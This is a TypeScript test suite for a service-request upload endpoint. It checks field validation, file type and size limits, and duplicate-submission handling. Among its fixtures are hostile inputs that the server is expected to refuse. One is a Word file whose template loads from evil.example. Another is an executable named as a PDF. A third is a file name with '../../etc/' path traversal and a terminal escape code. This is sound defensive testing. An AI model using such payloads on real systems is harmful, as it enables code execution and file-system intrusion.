import { createHash, randomUUID } from "node:crypto";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { goodRequest, multipart, plainFormAccept, type FormFile } from "./forms.ts";
import { padTo, program, sampleFile, zip } from "./sample-files.ts";
import { startApp } from "./start-app.ts";

const brief: FormFile = { name: "brief.pdf", bytes: sampleFile("pdf") };
type App = Awaited<ReturnType<typeof startApp>>["app"];

async function send(
  app: App,
  fields: Readonly<Record<string, string>>,
  file?: FormFile,
  headers: Record<string, string> = {},
) {
  const body = await multipart(fields, file);
  return app.inject({
    method: "POST",
    url: "/api/service-requests",
    payload: body.payload,
    headers: { ...body.headers, ...headers },
  });
}

test("Q-01 Q-18 Q-32 a request without a file is stored exactly as it was typed", async () => {
  const { app, stored } = await startApp();
  const answer = await send(app, { ...goodRequest, locale: "en", today: "2026-11-21" });
  expect(answer.statusCode).toBe(201);
  expect(await stored()).toEqual([
    {
      ...goodRequest,
      id: answer.json().id,
      kind: "service-request",
      state: "new",
      locale: "en",
      receivedAt: "2026-11-21T12:00:00.000Z",
      attachment: undefined,
    },
  ]);
});

test("Q-18 a file chooser that was left empty is no attachment", async () => {
  const { app, stored, keptFiles: listStoredFiles } = await startApp();
  expect((await send(app, goodRequest, { name: "", bytes: new Uint8Array() })).statusCode).toBe(
    201,
  );
  expect(await stored()).toMatchObject([{ attachment: undefined }]);
  expect(await listStoredFiles()).toEqual([]);
});

test.each([
  ["عرض السعر.pdf", "pdf"],
  ["brief.doc", "doc"],
  ["brief.docx", "docx"],
  ["logo.jpg", "jpg"],
  ["logo.JPEG", "jpg"],
  ["logo.png", "png"],
] as const)("Q-23 Q-46 the server accepts %s and keeps it byte for byte", async (name, type) => {
  const { app, stored, dataDir, keptFiles: listStoredFiles } = await startApp();
  const bytes = sampleFile(type);
  expect((await send(app, goodRequest, { name, bytes })).statusCode).toBe(201);
  const [lead] = await stored();
  expect(lead).toMatchObject({
    attachment: {
      name,
      type,
      sizeBytes: bytes.length,
      sha256: createHash("sha256").update(bytes).digest("hex"),
    },
  });
  const [file] = await listStoredFiles();
  expect(file).toMatch(new RegExp(`^[0-9a-f-]{36}\\.${type}$`));
  expect(await readFile(join(dataDir, "attachments", file!))).toEqual(Buffer.from(bytes));
});

test("Q-27 Q-46 the server accepts a file of exactly 5,242,880 bytes and keeps it byte for byte", async () => {
  const { app, dataDir, keptFiles: listStoredFiles } = await startApp();
  const bytes = padTo(5_242_880, sampleFile("pdf"));
  expect((await send(app, goodRequest, { name: "big.pdf", bytes })).statusCode).toBe(201);
  const [file] = await listStoredFiles();
  expect(Buffer.from(bytes).equals(await readFile(join(dataDir, "attachments", file!)))).toBe(true);
});

test.each([
  ["Q-28", "big.pdf", padTo(5_242_881, sampleFile("pdf")), "too-large"],
  ["Q-28", "huge.pdf", padTo(12_000_000, sampleFile("pdf")), "too-large"],
  ["Q-24", "anim.gif", new TextEncoder().encode("GIF89a"), "wrong-type"],
  ["Q-24", "notes.txt", new TextEncoder().encode("notes"), "wrong-type"],
  ["Q-24", "all.zip", sampleFile("docx"), "wrong-type"],
  ["Q-25", "brief.pdf", program, "wrong-type"],
  ["Q-25", "empty.pdf", new Uint8Array(), "wrong-type"],
  ["Q-25", "", program, "wrong-type"],
])(
  "%s Q-30 the server refuses the file «%s» and keeps nothing of it",
  async (_id, name, bytes, code) => {
    const { app, stored, keptFiles: listStoredFiles } = await startApp();
    const answer = await send(app, goodRequest, { name, bytes });
    expect(answer.statusCode).toBe(400);
    expect(answer.json()).toEqual({ code: "invalid-input", fields: { attachment: code } });
    expect(await stored()).toEqual([]);
    expect(await listStoredFiles()).toEqual([]);
  },
);

test("Q-25 a Word document that fetches its template from another machine is refused and not kept", async () => {
  const { app, keptFiles: listStoredFiles } = await startApp();
  const text =
    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
  const bytes = zip([
    { name: "[Content_Types].xml" },
    { name: "word/document.xml" },
    { name: "word/_rels/settings.xml.rels", text },
  ]);
  expect((await send(app, goodRequest, { name: "brief.docx", bytes })).json()).toEqual({
    code: "invalid-input",
    fields: { attachment: "wrong-type" },
  });
  expect(await listStoredFiles()).toEqual([]);
});

test("Q-29 after a refused file the request is accepted without it, under the same key", async () => {
  const { app, stored } = await startApp();
  const fields = { ...goodRequest, key: randomUUID() };
  await send(app, fields, { name: "brief.pdf", bytes: program });
  expect((await send(app, fields)).statusCode).toBe(201);
  expect(await stored()).toHaveLength(1);
});

test.each([
  ["Q-09", { serviceType: "" }, { serviceType: "missing" }],
  ["Q-10", { projectDescription: "  " }, { projectDescription: "missing" }],
  ["Q-11", { budget: "" }, { budget: "missing" }],
  ["Q-12", { deadline: "" }, { deadline: "missing" }],
  ["Q-13", { projectSize: "" }, { projectSize: "missing" }],
  ["Q-14", { managementSystem: "" }, { managementSystem: "missing" }],
  ["Q-15", { name: "" }, { name: "missing" }],
  ["Q-16", { email: "plain" }, { email: "malformed" }],
  ["Q-17", { phone: "" }, { phone: "missing" }],
  ["Q-17", { phone: "+20 100 555" }, { phone: "incomplete-mobile" }],
  ["Q-30", { serviceType: "nonsense" }, { serviceType: "not-offered" }],
  ["Q-30", { budget: "1" }, { budget: "not-offered" }],
  ["Q-30", { projectSize: "huge" }, { projectSize: "not-offered" }],
  ["Q-30", { managementSystem: "fax" }, { managementSystem: "not-offered" }],
  ["Q-30", { deadline: "2027-02-30" }, { deadline: "malformed" }],
  ["Q-19", { deadline: "2026-11-20", today: "2026-11-21" }, { deadline: "in-the-past" }],
  ["Q-19", { deadline: "2026-11-19" }, { deadline: "in-the-past" }],
  ["Q-19", { deadline: "2026-11-19", today: "2020-01-01" }, { deadline: "in-the-past" }],
  ["Q-30", { projectDescription: "x".repeat(10_001) }, { projectDescription: "too-long" }],
  ["Q-30", { projectDescription: "x".repeat(300_000) }, { projectDescription: "too-long" }],
])("%s Q-30 the server refuses %o", async (_id, change, fields) => {
  const { app, stored, keptFiles: listStoredFiles } = await startApp();
  const answer = await send(app, { ...goodRequest, ...change }, brief);
  expect(answer.statusCode).toBe(400);
  expect(answer.json()).toEqual({ code: "invalid-input", fields });
  expect(await stored()).toEqual([]);
  expect(await listStoredFiles()).toEqual([]);
});

test.each([
  ["Q-20", "2026-11-21"],
  ["Q-21", "2026-11-22"],
])("%s the server accepts a deadline of %s on 2026-11-21", async (_id, deadline) => {
  const { app } = await startApp();
  expect((await send(app, { ...goodRequest, deadline, today: "2026-11-21" })).statusCode).toBe(201);
});

test("Q-30 every field that breaks a rule is named at once, the file too", async () => {
  const { app } = await startApp();
  const answer = await send(app, {}, { name: "brief.pdf", bytes: program });
  const form = [
    "serviceType",
    "projectDescription",
    "budget",
    "projectSize",
    "deadline",
    "managementSystem",
    "name",
    "email",
    "phone",
  ];
  expect(Object.keys(answer.json().fields)).toEqual([...form, "attachment"]);
});

test("Q-43 a double click stores one request with one file", async () => {
  const { app, stored, keptFiles: listStoredFiles } = await startApp();
  const fields = { ...goodRequest, key: randomUUID() };
  const answers = await Promise.all([send(app, fields, brief), send(app, fields, brief)]);
  expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 201]);
  expect(new Set(answers.map((answer) => answer.json().id)).size).toBe(1);
  expect(await stored()).toHaveLength(1);
  expect(await listStoredFiles()).toEqual([
    (await stored()).map((lead) =>
      lead.kind === "service-request" ? lead.attachment?.file : undefined,
    )[0],
  ]);
});

test("Q-44 a retry after a lost answer stores nothing new, on disk neither", async () => {
  const { app, stored, keptFiles: listStoredFiles } = await startApp();
  const fields = { ...goodRequest, key: randomUUID() };
  const first = await send(app, fields, brief);
  const retry = await send(app, { ...fields, today: "2026-11-21" }, brief);
  expect(retry.statusCode).toBe(200);
  expect(retry.json()).toEqual(first.json());
  expect(await stored()).toHaveLength(1);
  expect(await listStoredFiles()).toHaveLength(1);
});

test("Q-44 the same words with another file are another request", async () => {
  const { app, stored, keptFiles: listStoredFiles } = await startApp();
  const fields = { ...goodRequest, key: randomUUID() };
  await send(app, fields, brief);
  expect(
    (await send(app, fields, { name: "brief.png", bytes: sampleFile("png") })).statusCode,
  ).toBe(201);
  expect(await stored()).toHaveLength(2);
  expect(await listStoredFiles()).toHaveLength(2);
});

test.each([
  ["ar", "شكرًا لك!"],
  ["en", "Thank You!"],
])(
  "Q-45 a plain form in %s, file included, is stored and answered with a page in its language",
  async (locale, thanks) => {
    const { app, stored } = await startApp();
    const answer = await send(app, { ...goodRequest, locale }, brief, { accept: plainFormAccept });
    expect(answer.statusCode).toBe(200);
    expect(answer.headers["content-type"]).toBe("text/html; charset=utf-8");
    expect(answer.body).toContain(thanks);
    expect(await stored()).toMatchObject([
      { projectDescription: goodRequest.projectDescription, attachment: { name: "brief.pdf" } },
    ]);
  },
);

test("Q-29 Q-45 an invalid plain form comes back with every choice made, every text kept and words about the file", async () => {
  const { app } = await startApp();
  const answer = await send(
    app,
    { ...goodRequest, serviceType: "web-design", email: "a@", locale: "en" },
    { name: "brief.pdf", bytes: program },
    { accept: plainFormAccept },
  );
  expect(answer.statusCode).toBe(400);
  expect(answer.body).toContain('<option data-choice="serviceType" value="web-design" selected>');
  expect(answer.body).toContain('<option value="seo" data-choice="serviceType">');
  expect(answer.body).toContain(
    '<input type="radio" name="budget" value="500-1000" data-choice="budget" checked/>',
  );
  expect(answer.body).toContain(
    '<input type="radio" name="budget" value="more-than-1000" data-choice="budget"/>',
  );
  expect(answer.body).toContain('value="2026-12-31"');
  expect(answer.body).toContain(
    '<p id="attachment-error">We cannot take this file: its type is not accepted',
  );
  expect(answer.body).not.toContain("choose your file again");
});

test("Q-45 a good file that came with a bad form has to be chosen again, and the page says so", async () => {
  const { app, keptFiles: listStoredFiles } = await startApp();
  const answer = await send(app, { ...goodRequest, email: "a@", locale: "en" }, brief, {
    accept: plainFormAccept,
  });
  expect(answer.body).toContain("Please choose your file again too");
  expect(await listStoredFiles()).toEqual([]);
});

test.each([
  ["cut short", (body: Buffer) => body.subarray(0, body.length - 40)],
  ["cut in its first header", (body: Buffer) => body.subarray(0, 60)],
  ["no form at all", () => Buffer.from("what is this?")],
])(
  "Q-30 a body that is %s is refused as malformed and leaves nothing behind",
  async (_what, damage) => {
    const { app, stored, keptFiles: listStoredFiles } = await startApp();
    const body = await multipart(goodRequest, {
      name: "brief.pdf",
      bytes: padTo(300_000, sampleFile("pdf")),
    });
    const answer = await app.inject({
      method: "POST",
      url: "/api/service-requests",
      payload: damage(body.payload),
      headers: body.headers,
    });
    expect(answer.statusCode).toBe(400);
    expect(answer.json()).toEqual({ code: "invalid-input" });
    expect(await stored()).toEqual([]);
    expect(await listStoredFiles()).toEqual([]);
  },
);

test.each([
  ["no boundary", "multipart/form-data", 400],
  ["JSON", "application/json", 415],
  ["a form without room for files", "application/x-www-form-urlencoded", 415],
])("Q-30 %s is refused", async (_what, type, status) => {
  const { app } = await startApp();
  const answer = await app.inject({
    method: "POST",
    url: "/api/service-requests",
    payload: "{}",
    headers: { "content-type": type },
  });
  expect(answer.statusCode).toBe(status);
  expect(answer.json()).toEqual({ code: "invalid-input" });
});

test("Q-30 a second file, or a hundred fields, are more than the form has", async () => {
  const { app, stored, keptFiles: listStoredFiles } = await startApp();
  const many = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`extra${i}`, "x"]));
  expect((await send(app, { ...goodRequest, ...many }, brief)).statusCode).toBe(400);
  const form = new FormData();
  for (const name of ["a.pdf", "b.pdf"])
    form.append("attachment", new Blob([sampleFile("pdf")]), name);
  const twoFiles = new Request("http://form.example/", { method: "POST", body: form });
  const answer = await app.inject({
    method: "POST",
    url: "/api/service-requests",
    payload: Buffer.from(await twoFiles.arrayBuffer()),
    headers: { "content-type": twoFiles.headers.get("content-type")! },
  });
  expect(answer.statusCode).toBe(400);
  expect(await stored()).toEqual([]);
  expect(await listStoredFiles()).toEqual([]);
});

test("Q-28 a body that says it is far too large is refused before it is read", async () => {
  const { app } = await startApp();
  const body = await multipart(goodRequest);
  const answer = await app.inject({
    method: "POST",
    url: "/api/service-requests",
    payload: body.payload,
    headers: { ...body.headers, "content-length": String(80 * 1024 * 1024) },
  });
  expect(answer.statusCode).toBe(413);
  expect(answer.json()).toEqual({ code: "too-large" });
});

test("Q-30 a file in any other field is not kept", async () => {
  const { app, stored, keptFiles: listStoredFiles } = await startApp();
  const form = new FormData();
  for (const [name, value] of Object.entries(goodRequest)) form.set(name, value);
  form.set("picture", new Blob([sampleFile("png")]), "me.png");
  const request = new Request("http://form.example/", { method: "POST", body: form });
  const answer = await app.inject({
    method: "POST",
    url: "/api/service-requests",
    payload: Buffer.from(await request.arrayBuffer()),
    headers: { "content-type": request.headers.get("content-type")! },
  });
  expect(answer.statusCode).toBe(201);
  expect(await stored()).toMatchObject([{ attachment: undefined }]);
  expect(await listStoredFiles()).toEqual([]);
});

test("Q-46 the name of a file is kept as text, without what could mislead a terminal, and never used as a path", async () => {
  const { app, stored, keptFiles: listStoredFiles } = await startApp();
  await send(app, goodRequest, {
    name: `../../etc/${"ط".repeat(300)}\u001b[31m.pdf`,
    bytes: brief.bytes,
  });
  const [lead] = await stored();
  const name = lead?.kind === "service-request" ? lead.attachment?.name : undefined;
  expect(name).toMatch(/^ط+\.pdf$/);
  expect(name).toHaveLength(200);
  expect(await listStoredFiles()).toHaveLength(1);
});
